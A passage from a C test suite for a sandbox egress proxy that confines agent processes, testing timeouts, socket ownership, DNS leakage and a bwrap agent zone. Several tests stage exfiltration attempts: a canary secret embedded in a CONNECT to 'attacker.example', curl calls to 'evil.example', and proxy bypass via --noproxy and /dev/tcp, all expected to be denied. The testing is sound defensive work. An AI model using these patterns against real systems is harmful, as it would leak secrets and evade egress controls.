	client_run(&f, &c, "CONNECT allowed.te", NULL);
	ck_assert_int_eq(c.status, 408);
	ck_assert_str_eq(c.body, "request-timeout");
	ck_assert_int_eq(last_ev(&f)->v, SBX_PROXY_ERROR);
	ck_assert_int_eq(f.nresolve, 0);
	fx_done(&f);
}
END_TEST

START_TEST(test_proxy_tunnel_time)
{
	struct client c;
	struct fx f;
	char req[128];

	fx_init(&f);
	uv_ip4_addr("93.184.216.34", 0, (struct sockaddr_in *)&f.answer[0]);
	f.nanswer = 1;
	f.o.max_tunnel_ms = 100;
	fx_start(&f);
	snprintf(req, sizeof req, "CONNECT public.test:%u HTTP/1.1\r\n\r\n",
	    f.port);
	client_start(&f, &c, req, NULL, true);
	client_wait(&f, &c);
	ck_assert_int_eq(c.status, 200);
	ck_assert(c.eof_seen);
	wait_events(&f, 2);
	ck_assert_int_eq(f.ev[1].v, SBX_PROXY_CLOSE);
	ck_assert_int_eq(f.ev[1].r, SBX_EGRESS_CAP_TIME);
	fx_done(&f);
}
END_TEST

START_TEST(test_proxy_oversized_request)
{
	struct client c;
	struct fx f;
	char *req = malloc(20000);

	fx_init(&f);
	fx_start(&f);
	strcpy(req, "CONNECT rebind.test:443 HTTP/1.1\r\nX-Pad: ");
	memset(req + strlen(req), 'p', 19000);
	req[19040] = '\0';
	client_run(&f, &c, req, NULL);
	ck_assert_int_eq(c.status, 403);
	ck_assert_str_eq(c.body, "malformed-request");
	ck_assert_int_eq(f.nresolve, 0);
	free(req);
	fx_done(&f);
}
END_TEST

/* ------------------------------------------------------------------ */
/* The socket.                                                         */

START_TEST(test_proxy_socket_mode)
{
	struct stat sb;
	struct fx f;
	int st;
	pid_t pid;

	fx_init(&f);
	f.o.uid = 2000123;
	f.o.gid = 2000124;
	fx_start(&f);
	ck_assert_int_eq(lstat(f.sock, &sb), 0);
	ck_assert(S_ISSOCK(sb.st_mode));
	ck_assert_int_eq(sb.st_mode & 07777, 0600);
	ck_assert_uint_eq(sb.st_uid, 2000123);
	ck_assert_uint_eq(sb.st_gid, 2000124);
	/* Another uid (a sibling lease's) cannot connect at all. */
	pid = fork();
	ck_assert_int_ge(pid, 0);
	if (pid == 0) {
		int fd;

		if (setgid(2000999) < 0 || setuid(2000999) < 0)
			_exit(2);
		fd = client_connect(f.sock);
		_exit(fd == -EACCES ? 0 : 1);
	}
	ck_assert_int_eq(waitpid(pid, &st, 0), pid);
	ck_assert(WIFEXITED(st));
	ck_assert_int_eq(WEXITSTATUS(st), 0);
	fx_done(&f);
}
END_TEST

/* Even through a socket made world-writable, a foreign uid is refused. */
START_TEST(test_proxy_foreign_peer)
{
	struct fx f;
	int st;
	pid_t pid;

	fx_init(&f);
	f.o.uid = 2000123;
	fx_start(&f);
	ck_assert_int_eq(chmod(f.sock, 0666), 0);
	ck_assert_int_eq(chmod(f.dir, 0755), 0);
	pid = fork();
	ck_assert_int_ge(pid, 0);
	if (pid == 0) {
		const char *r = "CONNECT rebind.test:443 HTTP/1.1\r\n\r\n";
		char buf[64];
		int fd;

		if (setgid(2000999) < 0 || setuid(2000999) < 0)
			_exit(2);
		if ((fd = client_connect(f.sock)) < 0)
			_exit(3);
		if (!write_all(fd, r, strlen(r)))
			_exit(0);	/* already closed: fine */
		_exit(read(fd, buf, sizeof buf) <= 0 ? 0 : 4);
	}
	wait_events(&f, 1);
	ck_assert_int_eq(waitpid(pid, &st, 0), pid);
	ck_assert(WIFEXITED(st));
	ck_assert_int_eq(WEXITSTATUS(st), 0);
	ck_assert_int_eq(f.ev[0].v, SBX_PROXY_ERROR);
	ck_assert_int_eq(f.ev[0].r, SBX_EGRESS_FOREIGN_PEER);
	ck_assert_int_eq(f.nresolve, 0);
	fx_done(&f);
}
END_TEST

/* The override comes from the operator's environment, in test builds. */
START_TEST(test_proxy_test_env)
{
	ck_assert_int_eq(unsetenv("CORRAL_TEST_EGRESS_HOSTS"), 0);
	ck_assert_ptr_null(sbx_proxy_test_env());
	ck_assert_int_eq(setenv("CORRAL_TEST_EGRESS_HOSTS", "", 1), 0);
	ck_assert_ptr_null(sbx_proxy_test_env());
	ck_assert_int_eq(setenv("CORRAL_TEST_EGRESS_HOSTS", "a.test=10.0.0.1",
	    1), 0);
	ck_assert_ptr_nonnull(sbx_proxy_test_env());
	ck_assert_str_eq(sbx_proxy_test_env(), "a.test=10.0.0.1");
}
END_TEST

START_TEST(test_proxy_start_refuses)
{
	static const char *const bad_allow[] = { "*:443", NULL };
	struct sbx_proxy *px = (void *)1;
	struct fx f;
	struct stat sb;
	char file[300];

	fx_init(&f);
	f.o.allow = bad_allow;
	ck_assert_int_eq(sbx_proxy_start(&f.loop, &f.o, &px), -EINVAL);
	ck_assert_ptr_null(px);
	f.o.allow = f.allow;
	f.o.sock_path = "relative.sock";
	ck_assert_int_eq(sbx_proxy_start(&f.loop, &f.o, &px), -EINVAL);
	f.o.sock_path = f.sock;
	f.o.test_hosts = "allowed.test=not-an-address";
	ck_assert_int_eq(sbx_proxy_start(&f.loop, &f.o, &px), -EINVAL);
	f.o.test_hosts = "=127.0.0.1";
	ck_assert_int_eq(sbx_proxy_start(&f.loop, &f.o, &px), -EINVAL);
	f.o.test_hosts = NULL;
	f.o.loopback_port = 11434;
	f.o.loopback_name = NULL;
	ck_assert_int_eq(sbx_proxy_start(&f.loop, &f.o, &px), -EINVAL);
	f.o.loopback_port = 0;
	/* Never over a file that is not a socket. */
	snprintf(file, sizeof file, "%s/file", f.dir);
	ck_assert_int_eq(cu_write_file(file, "keep", 4), 0);
	f.o.sock_path = file;
	ck_assert_int_eq(sbx_proxy_start(&f.loop, &f.o, &px), -EEXIST);
	ck_assert_int_eq(lstat(file, &sb), 0);
	ck_assert(S_ISREG(sb.st_mode));
	f.o.sock_path = f.sock;
	/* A stale socket (a crashed holder's) is replaced. */
	fx_start(&f);
	sbx_proxy_close(f.px, on_proxy_closed, &f);
	ck_assert(run_until(&f, is_closed, 5000));
	f.px = NULL;
	f.closed = false;
	{
		struct sockaddr_un a;
		int fd = socket(AF_UNIX, SOCK_STREAM, 0);

		memset(&a, 0, sizeof a);
		a.sun_family = AF_UNIX;
		snprintf(a.sun_path, sizeof a.sun_path, "%s", f.sock);
		ck_assert_int_eq(bind(fd, (struct sockaddr *)&a, sizeof a), 0);
		close(fd);
	}
	fx_start(&f);
	fx_done(&f);
}
END_TEST

/* ------------------------------------------------------------------ */
/* Real curl, behind the real forwarder, in a netns of its own.        */

struct proc {
	uv_process_t p;
	uv_pipe_t out;
	char buf[16384];
	size_t len;
	bool exited, eof;
	int64_t status;
};

static void
proc_alloc(uv_handle_t *h, size_t hint, uv_buf_t *b)
{
	struct proc *p = h->data;

	*b = uv_buf_init(p->buf + p->len, (unsigned)(sizeof p->buf - 1 -
	    p->len));
}

static void
proc_read(uv_stream_t *s, ssize_t n, const uv_buf_t *b)
{
	struct proc *p = s->data;

	if (n < 0) {
		p->eof = true;
		uv_close((uv_handle_t *)s, NULL);
		return;
	}
	p->len += (size_t)n;
	p->buf[p->len] = '\0';
}

static void
proc_exit(uv_process_t *h, int64_t status, int sig)
{
	struct proc *p = h->data;

	p->exited = true;
	p->status = status;
	uv_close((uv_handle_t *)h, NULL);
}

static bool
proc_done(struct fx *f)
{
	return f->proc->exited && f->proc->eof;
}

/* Run sh -c script in a new netns behind the forwarder; output in p. */
static void
run_forwarded(struct fx *f, struct proc *p, const char *script)
{
	uv_process_options_t po;
	uv_stdio_container_t io[3];
	char *init = getenv("CORRAL_SBX_INIT") ? strdup(
	    getenv("CORRAL_SBX_INIT")) : NULL, *inner;
	char *args[8];
	char *env[] = { "PATH=/usr/bin:/bin",
		"HTTPS_PROXY=" SBX_EGRESS_PROXY_URL,
		"https_proxy=" SBX_EGRESS_PROXY_URL,
		"HTTP_PROXY=" SBX_EGRESS_PROXY_URL,
		"http_proxy=" SBX_EGRESS_PROXY_URL, "NO_PROXY=", "no_proxy=",
		NULL };

	ck_assert_msg(init != NULL, "CORRAL_SBX_INIT is not set (ctest)");
	ck_assert_int_gt(asprintf(&inner, "ip link set lo up && exec '%s' "
	    "--egress '%s' -- bash -c '%s'", init, f->sock, script), 0);
	args[0] = "/usr/bin/unshare";
	args[1] = "--net";
	args[2] = "--";
	args[3] = "/bin/sh";
	args[4] = "-c";
	args[5] = inner;
	args[6] = NULL;
	memset(p, 0, sizeof *p);
	uv_pipe_init(&f->loop, &p->out, 0);
	p->out.data = p;
	p->p.data = p;
	memset(&po, 0, sizeof po);
	io[0].flags = UV_IGNORE;
	io[1].flags = UV_CREATE_PIPE | UV_WRITABLE_PIPE;
	io[1].data.stream = (uv_stream_t *)&p->out;
	io[2].flags = UV_INHERIT_FD;
	io[2].data.fd = 2;
	po.file = args[0];
	po.args = args;
	po.env = env;
	po.stdio = io;
	po.stdio_count = 3;
	po.exit_cb = proc_exit;
	ck_assert_int_eq(uv_spawn(&f->loop, &p->p, &po), 0);
	uv_read_start((uv_stream_t *)&p->out, proc_alloc, proc_read);
	f->proc = p;
	ck_assert_msg(run_until(f, proc_done, 60000), "forwarded run hung");
	free(inner);
	free(init);
}

START_TEST(test_proxy_curl_forwarder)
{
	struct proc p;
	struct fx f;
	char script[2048], want[64];
	int allows = 0, denies = 0;

	fx_init(&f);
	f.o.resolve = NULL;
	f.o.dial = NULL;
	snprintf(f.test_hosts, sizeof f.test_hosts, "allowed.test=127.0.0.1");
	f.o.test_hosts = f.test_hosts;
	fx_start(&f);
	/*
	 * 1: the allowlisted name through a CONNECT tunnel; 2: plain HTTP
	 * through the proxy (absolute form); 3: a name off the list; 4: no
	 * proxy at all, straight to the upstream's address (another netns:
	 * nothing there); 5: the host loopback listener by address.
	 */
	snprintf(script, sizeof script,
	    "curl -sS -p --max-time 20 http://allowed.test:%u/one; "
	    "echo rc1=$?; "
	    "curl -sS --max-time 20 http://allowed.test:%u/two; echo; "
	    "echo rc2=$?; "
	    "curl -sS -p --max-time 20 http://evil.example:%u/ 2>/dev/null; "
	    "echo rc3=$?; "
	    "curl -sS --noproxy \"*\" --max-time 5 http://127.0.0.1:%u/ "
	    "2>/dev/null; echo rc4=$?; "
	    "curl -sS -p --max-time 20 http://127.0.0.1:%u/ 2>/dev/null; "
	    "echo rc5=$?", f.port, f.port, f.port, f.port, f.port);
	run_forwarded(&f, &p, script);
	ck_assert_msg(p.status == 0, "exit %lld: %s", (long long)p.status,
	    p.buf);
	ck_assert_msg(strstr(p.buf, HELLO "rc1=0\n") != NULL, "%s", p.buf);
	ck_assert_msg(strstr(p.buf, "method-not-connect\n") != NULL, "%s",
	    p.buf);
	ck_assert_msg(strstr(p.buf, "rc3=56\n") != NULL, "%s", p.buf);
	ck_assert_msg(strstr(p.buf, "rc4=7\n") != NULL, "%s", p.buf);
	ck_assert_msg(strstr(p.buf, "rc5=56\n") != NULL, "%s", p.buf);
	snprintf(want, sizeof want, "127.0.0.1:%u", f.port);
	for (int i = 0; i < f.nev; i++) {
		if (f.ev[i].v == SBX_PROXY_ALLOW) {
			allows++;
			ck_assert_str_eq(f.ev[i].address, want);
		}
		if (f.ev[i].v == SBX_PROXY_DENY)
			denies++;
	}
	ck_assert_int_eq(allows, 1);
	ck_assert_int_eq(denies, 3);
	ck_assert_int_eq(f.upstream_conns, 1);
	fx_done(&f);
}
END_TEST

/* The forwarder keeps nothing alive: it ends with the agent's status. */
START_TEST(test_proxy_forwarder_exit)
{
	struct proc p;
	struct fx f;
	uint64_t t0;

	fx_init(&f);
	fx_start(&f);
	run_forwarded(&f, &p, "exit 7");
	ck_assert(p.exited);
	ck_assert_int_eq(p.status, 7);
	/* With an open connection of the agent's child still pending. */
	t0 = cu_now_ms();
	run_forwarded(&f, &p, "(exec 3<>/dev/tcp/127.0.0.1/3128; sleep 8) "
	    ">/dev/null 2>&1 & sleep 0.3; exit 3");
	ck_assert_int_eq(p.status, 3);
	ck_assert_uint_lt(cu_now_ms() - t0, 6000);
	fx_done(&f);
}
END_TEST

/*
 * An agent that hangs up on a tunnel still streaming: the forwarder must
 * not die of SIGPIPE (it is the agent's parent), and the next request
 * goes through.
 */
START_TEST(test_proxy_forwarder_hangup)
{
	char script[1024];
	struct proc p;
	struct fx f;

	fx_init(&f);
	f.o.resolve = NULL;
	f.o.dial = NULL;
	snprintf(f.test_hosts, sizeof f.test_hosts, "allowed.test=127.0.0.1");
	f.o.test_hosts = f.test_hosts;
	fx_start(&f);
	snprintf(script, sizeof script,
	    "exec 3<>/dev/tcp/127.0.0.1/3128; "
	    "printf \"CONNECT allowed.test:%u HTTP/1.1\\r\\n\\r\\n\" >&3; "
	    "head -c 39 <&3 >/dev/null; printf FLOOD >&3; exec 3<&- 3>&-; "
	    "sleep 1; "
	    "curl -sS -p --max-time 20 http://allowed.test:%u/again; "
	    "echo rc=$?", f.port, f.port);
	run_forwarded(&f, &p, script);
	ck_assert_msg(p.status == 0, "exit %lld: %s", (long long)p.status,
	    p.buf);
	ck_assert_msg(strstr(p.buf, HELLO "rc=0\n") != NULL, "%s", p.buf);
	fx_done(&f);
}
END_TEST

/* ------------------------------------------------------------------ */
/* The host's resolver, watched: a DNS server of the test's own.       */

struct dns {
	uv_udp_t h;
	char names[32][256];
	int n;
};

static void
dns_alloc(uv_handle_t *h, size_t hint, uv_buf_t *b)
{
	b->base = malloc(2048);
	b->len = b->base != NULL ? 2048 : 0;
}

static void
dns_sent(uv_udp_send_t *req, int status)
{
	free(req->data);
	free(req);
}

/* Record the query's name; answer NXDOMAIN at once. */
static void
dns_recv(uv_udp_t *h, ssize_t n, const uv_buf_t *b,
    const struct sockaddr *from, unsigned flags)
{
	struct dns *d = h->data;
	size_t off = 12, o = 0;
	char name[256];

	if (n < 13 || from == NULL) {
		free(b->base);
		return;
	}
	while (off < (size_t)n && b->base[off] != 0 && o < sizeof name - 65) {
		size_t l = (unsigned char)b->base[off++];

		if (off + l > (size_t)n)
			break;
		if (o > 0)
			name[o++] = '.';
		memcpy(name + o, b->base + off, l);
		o += l;
		off += l;
	}
	name[o] = '\0';
	if (d->n < 32)
		snprintf(d->names[d->n++], sizeof d->names[0], "%s", name);
	{
		uv_udp_send_t *req = malloc(sizeof *req);
		uv_buf_t out = uv_buf_init(b->base, (unsigned)n);

		b->base[2] = (char)(0x80 | (b->base[2] & 0x79)); /* QR, RD */
		b->base[3] = (char)0x83;	/* RA, NXDOMAIN */
		memset(b->base + 6, 0, 6);	/* no answers */
		req->data = b->base;
		if (uv_udp_send(req, h, &out, 1, from, dns_sent) < 0) {
			free(req);
			free(b->base);
		}
	}
}

static void
lo_up(void)
{
	struct ifreq ifr;
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	ck_assert_int_ge(fd, 0);
	memset(&ifr, 0, sizeof ifr);
	snprintf(ifr.ifr_name, sizeof ifr.ifr_name, "lo");
	ck_assert_int_eq(ioctl(fd, SIOCGIFFLAGS, &ifr), 0);
	ifr.ifr_flags |= IFF_UP;
	ck_assert_int_eq(ioctl(fd, SIOCSIFFLAGS, &ifr), 0);
	close(fd);
}

/*
 * The production resolver (uv_getaddrinfo), pointed at a DNS server of
 * the test's own in a network and mount namespace of its own: a denied
 * secret-bearing name is never asked for; an allowed one is (the
 * positive control), and its NXDOMAIN is a failure, not a violation.
 */
START_TEST(test_proxy_dns_host_side)
{
	static const char secret[] = "sk-c4n4ry-77aa";
	static const char resolv[] = "nameserver 127.0.0.1\n"
	    "options attempts:1 timeout:2\n";
	struct sockaddr_in a;
	struct client c;
	struct dns d;
	struct fx f;
	char conf[4096], *dir, req[256];
	bool asked_allowed = false;

	ck_assert_int_eq(unshare(CLONE_NEWNS | CLONE_NEWNET), 0);
	ck_assert_int_eq(mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL), 0);
	lo_up();
	dir = cu_tmpdir("proxy-dns");
	snprintf(conf, sizeof conf, "%s/resolv.conf", dir);
	ck_assert_int_eq(cu_write_file(conf, resolv, strlen(resolv)), 0);
	ck_assert_int_eq(mount(conf, "/etc/resolv.conf", NULL, MS_BIND,
	    NULL), 0);
	fx_init(&f);
	f.o.resolve = NULL;
	f.o.dial = NULL;
	memset(&d, 0, sizeof d);
	uv_udp_init(&f.loop, &d.h);
	d.h.data = &d;
	uv_ip4_addr("127.0.0.1", 53, &a);
	ck_assert_int_eq(uv_udp_bind(&d.h, (struct sockaddr *)&a, 0), 0);
	ck_assert_int_eq(uv_udp_recv_start(&d.h, dns_alloc, dns_recv), 0);
	fx_start(&f);
	snprintf(req, sizeof req, "CONNECT %s.attacker.example:443 "
	    "HTTP/1.1\r\n\r\n", secret);
	client_run(&f, &c, req, NULL);
	ck_assert_int_eq(c.status, 403);
	client_run(&f, &c, "CONNECT rebind.test:443 HTTP/1.1\r\n\r\n", NULL);
	ck_assert_int_eq(c.status, 502);
	ck_assert_str_eq(c.body, "resolve-failed");
	for (int i = 0; i < d.n; i++) {
		ck_assert_msg(strstr(d.names[i], secret) == NULL,
		    "the resolver asked for %s", d.names[i]);
		if (strncmp(d.names[i], "rebind.test", 11) == 0)
			asked_allowed = true;
	}
	ck_assert_msg(asked_allowed, "the resolver was never asked (%d)",
	    d.n);
	uv_close((uv_handle_t *)&d.h, NULL);
	fx_done(&f);
	umount("/etc/resolv.conf");
	cu_rmrf(dir);
	free(dir);
}
END_TEST

/* ------------------------------------------------------------------ */
/* The whole agent zone: bwrap plan + egress, curl inside.             */

struct zone {
	struct sbx_plan *plan;
	struct sbx_exec_result res;
	int rc;
	atomic_bool done;
	struct fx *f;
	pthread_t th;
};

static void *
zone_main(void *arg)
{
	struct zone *z = arg;
	struct sbx_exec_opts o = { .cap = 1 << 16, .timeout_ms = 90000,
		.stdin_fd = -1 };

	z->rc = sbx_exec_run(z->plan, &o, &z->res);
	z->done = true;
	uv_async_send(&z->f->wake);
	return NULL;
}

static void
copy_exe(const char *from, const char *to)
{
	size_t len = 0;
	char *buf = cu_read_file(from, &len);

	ck_assert_msg(buf != NULL, "cannot read %s", from);
	ck_assert_int_eq(cu_write_file(to, buf, len), 0);
	ck_assert_int_eq(chmod(to, 0755), 0);
	free(buf);
}

static bool
zone_done(struct fx *f)
{
	return f->zone_done != NULL && *f->zone_done;
}

/*
 * curl in a real bwrap agent zone (the production plan, seccomp and all,
 * plus sbx_egress_plan_add) reaching the test upstream only by name
 * through the lease's proxy; everything else fails, and the proxy logs it.
 */
START_TEST(test_proxy_bwrap_zone)
{
	const char *init = getenv("CORRAL_SBX_INIT");
	char why[256], script[2048], *uiddir, *stage, *ws, *init_st, want[64];
	char *cmd[] = { "/bin/sh", "-c", script, NULL };
	struct sbx_request req;
	struct zone z;
	struct fx f;
	char id[64];
	unsigned slot;
	uid_t uid;
	gid_t gid;
	int allows = 0, denies = 0;

	ck_assert_msg(init != NULL, "CORRAL_SBX_INIT is not set (ctest)");
	ck_assert_msg(sbx_adapter_bwrap.probe(why, sizeof why) == 0,
	    "bwrap probe: %s", why);
	fx_init(&f);
	ck_assert_int_gt(asprintf(&uiddir, "%s", SBX_UID_DIR), 0);
	snprintf(id, sizeof id, "egress-%d", (int)getpid());
	ck_assert_int_eq(sbx_uid_claim(uiddir, cu_scope(), id, &slot), 0);
	ck_assert_int_eq(sbx_uid_of_slot(slot, &uid, &gid), 0);
	/* The socket belongs to the lease uid; its directory is passable. */
	ck_assert_int_eq(chmod(f.dir, 0711), 0);
	f.o.uid = uid;
	f.o.gid = gid;
	f.o.resolve = NULL;
	f.o.dial = NULL;
	snprintf(f.test_hosts, sizeof f.test_hosts, "allowed.test=127.0.0.1");
	f.o.test_hosts = f.test_hosts;
	fx_start(&f);
	ws = cu_tmpdir("egress-work");
	ck_assert_int_eq(chown(ws, uid, gid), 0);
	stage = cu_tmpdir("egress-bin");
	ck_assert_int_eq(chmod(stage, 0755), 0);
	ck_assert_int_gt(asprintf(&init_st, "%s/corral-sbx-init", stage), 0);
	copy_exe(init, init_st);
	snprintf(script, sizeof script,
	    "env | grep -i _proxy= | sort; "
	    "curl -sS -p --max-time 20 http://allowed.test:%u/one; "
	    "echo rc1=$?; "
	    "curl -sS -p --max-time 20 http://evil.example:%u/ 2>/dev/null; "
	    "echo rc2=$?; "
	    "curl -sS -p --max-time 20 http://10.0.0.1:%u/ 2>/dev/null; "
	    "echo rc3=$?; "
	    "curl -sS --noproxy \"*\" --max-time 5 http://127.0.0.1:%u/ "
	    "2>/dev/null; echo rc4=$?; "
	    "curl -sS --noproxy \"*\" --max-time 5 http://allowed.test:%u/ "
	    "2>/dev/null; echo rc5=$?; "
	    "ls -l /run/egress/", f.port, f.port, f.port, f.port, f.port);
	memset(&req, 0, sizeof req);
	req.id = id;
	req.lease_dir = f.dir;
	req.workspace = ws;
	req.cmd = cmd;
	req.init_path = init_st;
	req.uid = uid;
	req.gid = gid;
	memset(&z, 0, sizeof z);
	z.f = &f;
	ck_assert_int_eq(sbx_adapter_bwrap.plan(&req, &z.plan), 0);
	ck_assert_int_eq(sbx_egress_plan_add(z.plan, f.sock, 0), 0);
	f.zone_done = &z.done;
	ck_assert_int_eq(pthread_create(&z.th, NULL, zone_main, &z), 0);
	ck_assert_msg(run_until(&f, zone_done, 100000), "zone hung");
	pthread_join(z.th, NULL);
	ck_assert_int_eq(z.rc, 0);
	ck_assert_msg(WIFEXITED(z.res.wstatus) &&
	    WEXITSTATUS(z.res.wstatus) == 0, "zone %d: %s %s",
	    z.res.wstatus, z.res.out, z.res.err);
	ck_assert_msg(strstr(z.res.out, "HTTPS_PROXY=" SBX_EGRESS_PROXY_URL
	    "\n") != NULL, "%s", z.res.out);
	ck_assert_msg(strstr(z.res.out, HELLO "rc1=0\n") != NULL, "%s",
	    z.res.out);
	ck_assert_msg(strstr(z.res.out, "rc2=56\n") != NULL, "%s",
	    z.res.out);
	ck_assert_msg(strstr(z.res.out, "rc3=56\n") != NULL, "%s",
	    z.res.out);
	/* No route and no DNS in the zone's own netns. */
	ck_assert_msg(strstr(z.res.out, "rc4=7\n") != NULL, "%s",
	    z.res.out);
	ck_assert_msg(strstr(z.res.out, "rc5=6\n") != NULL, "%s",
	    z.res.out);
	ck_assert_msg(strstr(z.res.out, "proxy.sock") != NULL, "%s",
	    z.res.out);
	/* Confirmed from the host side: the proxy's own log. */
	snprintf(want, sizeof want, "127.0.0.1:%u", f.port);
	for (int i = 0; i < f.nev; i++) {
		if (f.ev[i].v == SBX_PROXY_ALLOW) {
			allows++;
			ck_assert_str_eq(f.ev[i].address, want);
		}
		if (f.ev[i].v == SBX_PROXY_DENY)
			denies++;
	}
	ck_assert_int_eq(allows, 1);
	ck_assert_int_eq(denies, 2);
	ck_assert_int_eq(f.upstream_conns, 1);
	sbx_exec_result_clear(&z.res);
	sbx_plan_free(z.plan);
	fx_done(&f);
	ck_assert_int_eq(sbx_uid_release(uiddir, slot, cu_scope(), id), 0);
	cu_rmrf(ws);
	cu_rmrf(stage);
	free(ws);
	free(stage);
	free(init_st);
	free(uiddir);
}
END_TEST

Suite *
proxy_suite(void)
{
	Suite *s = suite_create("proxy");
	TCase *tc = tcase_create("Core");
	TCase *ti = tcase_create("Integration");

	tcase_set_timeout(tc, 30);
	tcase_add_loop_test(tc, test_proxy_refusals, 0,
	    (int)(sizeof refusals / sizeof refusals[0]));
	tcase_add_test(tc, test_proxy_secret_name_no_lookup);
	tcase_add_test(tc, test_proxy_redacts_credential);
	tcase_add_loop_test(tc, test_proxy_rebinding, 0, 6);
	tcase_add_test(tc, test_proxy_resolve_failure);
	tcase_add_loop_test(tc, test_proxy_dials_vetted_address, 0, 2);
	tcase_add_test(tc, test_proxy_test_override_e2e);
	tcase_add_test(tc, test_proxy_early_data);
	tcase_add_test(tc, test_proxy_loopback_grant);
	tcase_add_test(tc, test_proxy_cap_active);
	tcase_add_test(tc, test_proxy_cap_bytes);
	tcase_add_test(tc, test_proxy_cap_total);
	tcase_add_test(tc, test_proxy_request_timeout);
	tcase_add_test(tc, test_proxy_tunnel_time);
	tcase_add_test(tc, test_proxy_oversized_request);
	tcase_add_test(tc, test_proxy_socket_mode);
	tcase_add_test(tc, test_proxy_foreign_peer);
	tcase_add_test(tc, test_proxy_start_refuses);
	tcase_add_test(tc, test_proxy_test_env);
	suite_add_tcase(s, tc);
	tcase_set_timeout(ti, 120);
	tcase_add_test(ti, test_proxy_curl_forwarder);
	tcase_add_test(ti, test_proxy_forwarder_exit);
	tcase_add_test(ti, test_proxy_forwarder_hangup);
	tcase_add_test(ti, test_proxy_bwrap_zone);
	tcase_add_test(ti, test_proxy_dns_host_side);
	suite_add_tcase(s, ti);
	return s;
}
